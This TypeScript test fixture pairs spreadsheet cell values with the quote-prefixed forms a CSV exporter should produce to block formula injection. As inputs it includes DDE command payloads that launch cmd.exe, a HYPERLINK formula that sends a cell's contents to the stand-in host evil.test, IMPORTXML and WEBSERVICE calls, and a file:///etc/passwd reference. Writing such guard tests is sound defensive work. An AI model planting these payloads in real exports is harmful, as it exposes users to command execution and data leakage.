// Cells that a spreadsheet would calculate (reliability B5), and such that only look like it: what a CSV of ours makes of each.
export interface CellStory {
  cell: string;
  guarded: string;
}

const guarded = (...cells: string[]): CellStory[] => cells.map((cell) => ({ cell, guarded: `'${cell}` }));
const plain = (...cells: string[]): CellStory[] => cells.map((cell) => ({ cell, guarded: cell }));
const inside = (cell: string, becomes: string): CellStory => ({ cell, guarded: becomes });

export const CELLS: CellStory[] = [
  ...guarded('=1+1', '+1+1', '-1+1', '@SUM(1)', '=', '+', '-', '@', '--5', '-1-1', '+1e', '-.'),
  ...guarded('\tx', '\rx', '\nx', '\u000b=1', '\f=1', '\u0085=1', '\u001f@a'),
  ...guarded(
    ' =1+1',
    '   +1',
    '\u00a0=1',
    '\u00a0 -1+1',
    '\u3000@a',
    '\u2003=1',
    '\u2028=1',
    '\ufeff=1',
    '\u200b=1',
    '\u200e=1',
  ),
  ...guarded('\u00ad=1', '\u2060=1', ' -5'),
  ...guarded('＝1+1', '＋1', '－1', '＠SUM(1)', ' ＝1'),
  // Dynamic data exchange, and functions that reach outside.
  ...guarded(`=cmd|' /C calc'!A0`, `+cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`),
  ...guarded(`=10+20+cmd|' /C calc'!A0`, `=DDE("cmd";"/C calc";"x")`, `=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''`),
  ...guarded(
    `=HYPERLINK("http://evil.test/?"&A1,"x")`,
    `=IMPORTXML("http://evil.test/","//a")`,
    `=WEBSERVICE("http://evil.test")`,
  ),
  ...guarded(`='file:///etc/passwd'#$passwd.A1`, `=INDIRECT("A1")`, `="a"&"b"`, `=-1`, `+-1`, `=1,2`, '=1"2'),
  // A quote of its own: one more, so that taking it off is exact.
  ...guarded("'", "''", "'=1", "' =1", "'a", "'5", `'"`),
  // Where a spreadsheet splits otherwise than we do.
  inside('a;=1+1', "a;'=1+1"),
  inside('a; =1', "a; '=1"),
  inside("a;'=1", "a;''=1"),
  inside('a\t@b', "a\t'@b"),
  inside('a\n=1', "a\n'=1"),
  inside('a\r\n=1', "a\r\n'=1"),
  inside(`x\n+cmd|' /C calc'!A0;y`, `x\n'+cmd|' /C calc'!A0;y`),
  inside(`";=cmd|' /C calc'!A0;"`, `";'=cmd|' /C calc'!A0;"`),
  inside('a;\u00a0＝1', "a;\u00a0'＝1"),
  inside('a;-5', "a;'-5"),
  inside('a\r"=1', 'a\r"\'=1'),
  inside('\n=1', "'\n'=1"),
  inside('\t=1', "'\t'=1"),
  inside('=1\n=2;=3', "'=1\n'=2;'=3"),
  ...plain('', 'a', '0', '5', '-5', '+3.25', '-.5', '5.', '-1e-5', '+2E+10', 'a=b', 'a-b', 'x@y.test', '1-2', 'a, =b'),
  ...plain('a;b', 'a\nb', ' ', '\u00a0', '"=1"', '(=1)', '%3D1', '1e5', '2026-11-24', '＃=1', "a'=1", ';', 'a;\n'),
];
